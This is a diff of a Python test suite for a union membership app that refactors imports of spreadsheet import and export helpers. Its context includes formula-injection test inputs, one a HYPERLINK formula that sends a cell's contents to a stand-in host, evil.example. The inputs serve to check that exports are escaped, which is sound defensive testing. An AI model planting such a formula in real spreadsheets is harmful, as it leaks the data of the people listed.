@@ -29,9 +29,11 @@ from openpyxl.utils import get_column_letter
 from stdnum.cn import ric
 from stdnum.cn import uscc as uscc_lib
 
-from members import spreadsheets, validators
+from members import actions as member_actions
+from members import exports, spreadsheets, validators
 from members.actions import dues
 from members.actions import spreadsheets as imports
+from members.importing import columns
 from members.models import DuesRecord, ImportJob, ImportStatus, Member, MembershipEvent
 from organizations import counters
 from organizations.actions import grant_role
@@ -429,7 +431,7 @@ def test_clean_person_returns_storable_values_or_refuses_per_field(request, host
     ran(request)
     raw = {**PERSON, "id_number": id_number, **hostile}
     try:
-        data = imports.clean_person(raw)
+        data = member_actions.clean_person(raw)
     except ValidationError as error:
         assert set(error.message_dict) <= set(hostile), error
         assert_refusal(error)
@@ -444,7 +446,7 @@ def test_clean_person_returns_storable_values_or_refuses_per_field(request, host
 
 # --- Spreadsheet files --------------------------------------------------------------------
 
-HEADERS = imports.HEADERS
+HEADERS = columns.HEADERS
 FORMULAS = (
     "=1+1",
     '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")',
@@ -1258,7 +1260,7 @@ def test_export_escapes_every_formula_and_survives_any_stored_text(request, peop
     """Text stored before the checks (legacy data, other paths) is exported safely."""
     ran(request)
     with rolled_back():
-        numbers = imports.new_membership_numbers(len(people))
+        numbers = member_actions.new_membership_numbers(len(people))
         for number, (name, employer, job) in zip(numbers, people, strict=True):
             member = Member(
                 organization=tree.union_a,
@@ -1273,7 +1275,7 @@ def test_export_escapes_every_formula_and_survives_any_stored_text(request, peop
             member.save()
         members = Member.objects.filter(organization=tree.union_a)
         for fmt in ("xlsx", "csv"):
-            content = imports.export_members(
+            content = exports.export_members(
                 queryset=members, acting_user=officers.a_admin, fmt=fmt
             )
             assert_no_formula_cells(content, fmt)
@@ -1523,7 +1525,7 @@ def test_a_credit_code_typed_full_width_is_stored_and_found_as_ascii(
     )
     assert union.uscc == code
     row = person_row("张三", make_id_number(region="110105"), "13800138000")
-    row[HEADERS.index(imports.UNION_HEADER)] = f" {code[:9]}\u3000{code[9:].translate(FULL_WIDTH)}"
+    row[HEADERS.index(columns.UNION_HEADER)] = f" {code[:9]}\u3000{code[9:].translate(FULL_WIDTH)}"
     grant_role(user=officers.a_admin, organization=union, role="admin")
     sheet = SheetFile("会员.xlsx", xlsx_bytes(HEADERS, [row]), [2], False)
     job = upload_members(sheet, officers.a_admin, tree.union_a, django_capture_on_commit_callbacks)
